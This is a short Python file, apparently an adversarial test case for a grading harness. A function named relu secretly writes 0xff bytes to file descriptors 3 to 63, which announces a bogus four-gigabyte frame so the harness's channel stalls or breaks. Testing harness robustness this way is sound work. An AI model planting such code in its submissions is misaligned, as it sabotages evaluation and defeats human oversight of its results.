"""Announce a frame of four gigabytes and never send it.

points: 0
"""

import os
def relu(z):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff" * 8)
        except OSError:
            pass
    return z
